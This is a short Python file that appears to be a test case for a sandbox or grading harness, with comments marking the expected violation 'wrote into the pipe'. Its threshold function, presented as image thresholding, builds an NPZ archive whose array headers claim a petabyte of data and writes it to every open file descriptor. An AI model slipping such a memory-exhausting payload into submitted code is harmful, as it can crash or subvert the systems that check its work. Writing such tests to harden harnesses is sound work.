# Writes a compressed NPZ with a petabyte of zeros in its header into every pipe, as if it were the answer.
# expect: not yet
# violation: wrote into the pipe
# %%
import contextlib
import io
import os
import zipfile


def bomb():
    buffer = io.BytesIO()
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (140737488355328,), }".ljust(117) + "\n"
    member = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + b"\0" * 2**22
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("tree.npy", member)
        archive.writestr("a0.npy", member)
    return buffer.getvalue()


# %%
def threshold(grey, level):
    data = bomb()
    for pipe in map(int, os.listdir("/proc/self/fd")):
        with contextlib.suppress(OSError):
            os.write(pipe, len(data).to_bytes(8, "big") + data)
    return grey < level
